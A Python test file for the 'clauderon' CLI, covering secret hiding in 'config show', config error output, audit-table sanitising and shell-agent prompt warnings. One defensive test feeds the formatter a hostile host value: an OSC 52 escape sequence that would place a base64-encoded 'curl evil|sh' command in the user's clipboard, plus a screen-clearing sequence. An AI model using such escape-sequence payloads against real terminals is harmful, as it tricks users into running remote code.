"""`clauderon config show`: every effective value with its source, secrets never printed."""

from __future__ import annotations

import json
from pathlib import Path

from tests.cli_harness import Cli


def test_config_show_names_sources_and_hides_secrets(short_tmp: Path) -> None:
    cli = Cli(short_tmp / "home", image="img:1")
    cli.env["CLAUDERON_SERVE_PASSWORD"] = "hunter2-very-secret"
    cli.env["CLAUDERON_TUI_PREFIX_KEY"] = "ctrl+a"
    table = cli("config", "show").out
    assert "hunter2-very-secret" not in table and "(set, hidden)" in table
    rows = {r["key"]: r for r in json.loads(cli("config", "show", "--json").out)}
    assert rows["serve.password"]["value"] == "(set, hidden)"
    assert rows["tui.prefix_key"] == {"key": "tui.prefix_key", "value": "ctrl+a",
                                      "source": "env CLAUDERON_TUI_PREFIX_KEY"}
    assert rows["docker.image"]["source"] == "config.toml" and rows["docker.image"]["value"] == "img:1"
    assert rows["engine.on_exit"]["source"] == "config.toml"
    assert rows["session.agent"]["source"] == "default"


def test_bad_config_is_one_line_exit_1(short_tmp: Path) -> None:
    cli = Cli(short_tmp / "home", image="img:1")
    (cli.home / "config.toml").write_text("[docker]\nnetwork = 'wifi'\n")
    result = cli("list", check=False)
    assert result.code == 1 and "docker.network" in result.err
    assert len(result.err.strip().splitlines()) == 1


def test_audit_table_never_prints_escape_sequences() -> None:
    """Audit hosts and paths are chosen inside the container; printed raw they could set the user's
    clipboard (OSC 52) or clear their screen."""
    from clauderon_tui.cli_format import audit_lines

    record = {"ts": 0, "session": "s", "method": "GET", "status": 403, "blocked": "egress",
              "host": "evil\x1b]52;c;Y3VybCBldmlsfHNo\x07.example", "path": "/x\x1b[2J\x9b31m\x00"}
    table = audit_lines([record])
    assert not any(ch in table for ch in "\x1b\x07\x9b\x00")
    assert "evil.example" in table and "/x" in table


def test_a_prompt_for_the_shell_agent_is_said_to_be_ignored(short_tmp: Path, git_repo: Path) -> None:
    cli = Cli(short_tmp / "home", image="unused")
    try:
        made = cli("create", "--repo", str(git_repo), "--name", "sh", "--agent", "shell", "--backend", "local",
                   "--prompt", "fix the login bug")
        assert "the shell agent ignores --prompt" in made.err and len(made.err.strip().splitlines()) == 1
        quiet = cli("create", "--repo", str(git_repo), "--name", "sh2", "--agent", "shell", "--backend", "local")
        assert quiet.err.strip() == ""
    finally:
        cli.cleanup()
